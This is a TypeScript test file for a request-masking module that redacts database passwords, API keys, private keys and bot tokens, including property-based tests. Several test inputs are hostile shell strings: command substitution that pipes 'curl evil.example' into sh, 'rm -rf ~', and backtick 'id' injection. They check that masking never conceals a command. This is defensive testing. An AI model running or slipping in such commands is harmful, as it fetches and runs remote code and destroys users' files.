import fc from 'fast-check';
import { anyText } from '../../fixtures/arbitrary-card';
import { maskRequest, secretsInRequest } from './request-mask';
import { MASK, masked } from './secrets';

const KNOWN = ['123456:AAbbCCddEE-ffGGhh_iiJJkkLLmmNNooPP'];
const KEY = '-----BEGIN PRIVATE KEY-----';
const BASE64 = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7';
const maskedText = (text: string): string => masked(text, secretsInRequest(text, KNOWN));

describe('the secrets of a request', () => {
  it.each([
    ['psql postgres://shop:hunter2hunter2@db/shop', `psql postgres://shop:${MASK}@db/shop`],
    ['export KEY=sk-ant-api03-aaaaaaaaaaaaaaaaaaaaaaaa', `export KEY=sk-ant-${MASK}`],
    [
      `${KEY}\n${BASE64}\n${BASE64}\n-----END PRIVATE KEY-----`,
      `${KEY}\n${MASK}\n${MASK}\n-----END PRIVATE KEY-----`,
    ],
    [
      `curl https://api.telegram.org/bot${KNOWN[0] ?? ''}/getMe`,
      `curl https://api.telegram.org/bot${MASK}:${MASK}/getMe`,
    ],
  ])('are masked: %s', (text, expected) => {
    expect(maskedText(text)).toBe(expected);
  });

  it.each([
    'curl postgres://u:$(curl${IFS}evil.example|sh)@db',
    'curl https://u:`id`@h',
    'curl "https://u:a;rm"@h',
    `echo "${KEY}" > k; rm -rf ~ && curl evil.example | sh\n$(id)`,
    `${KEY}\n$(curl -s evil.example | sh)\nrm -rf "$HOME"`,
  ])('are no place to hide a command in: %s', (text) => {
    expect(maskedText(text)).toBe(text);
  });

  it('leave everything between two lines of a key visible', () => {
    const text = `cat > k <<E\n${KEY}\n${BASE64}\nE\nrm -rf ~; curl evil.example | sh\n${BASE64}`;
    expect(maskedText(text)).toBe(
      `cat > k <<E\n${KEY}\n${MASK}\nE\nrm -rf ~; curl evil.example | sh\n${MASK}`,
    );
  });

  it('cover nothing that a shell acts on, in any text', () => {
    const piece = fc.constantFrom(
      ...[
        KEY,
        `\n${KEY}\n`,
        '-----END PRIVATE KEY-----',
        BASE64,
        'postgres://u:',
        '@h',
        'sk-ant-',
        KNOWN[0] ?? '',
      ],
      ...[
        '$(id)',
        '`id`',
        ' | sh',
        '; rm -rf ~',
        ' && ',
        '"',
        "'",
        '\n',
        '\\n',
        '{a,b}',
        '<(x)',
        '*',
        '!',
        '\\',
      ],
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, anyText(3)), { maxLength: 20 }).map((all) => all.join('')),
        (text) => {
          for (const { from, to, show } of secretsInRequest(text, KNOWN))
            expect(text.slice(from + show, to)).toMatch(/^[A-Za-z0-9+/=_.~%-]+$/);
        },
      ),
      { numRuns: 2_000 },
    );
  });

  it('are masked in files too, and entities stay in place', () => {
    const text = `run postgres://u:hunter2hunter2@db now`;
    const bytes = new TextEncoder().encode(text);
    const view = maskRequest(
      {
        parts: [
          { text, entities: [{ type: 'code', offset: 4, length: text.length - 8 }] },
          { text: 'f', entities: [], file: { name: 'f.txt', as: 'document', content: { bytes } } },
        ],
      },
      [],
    );
    const hidden = `run postgres://u:${MASK}@db now`;
    expect(view.parts[0]).toEqual({
      text: hidden,
      entities: [{ type: 'code', offset: 4, length: hidden.length - 8 }],
    });
    const file = view.parts[1]?.file?.content;
    expect(file !== undefined && 'bytes' in file ? new TextDecoder().decode(file.bytes) : '').toBe(hidden);
  });
});
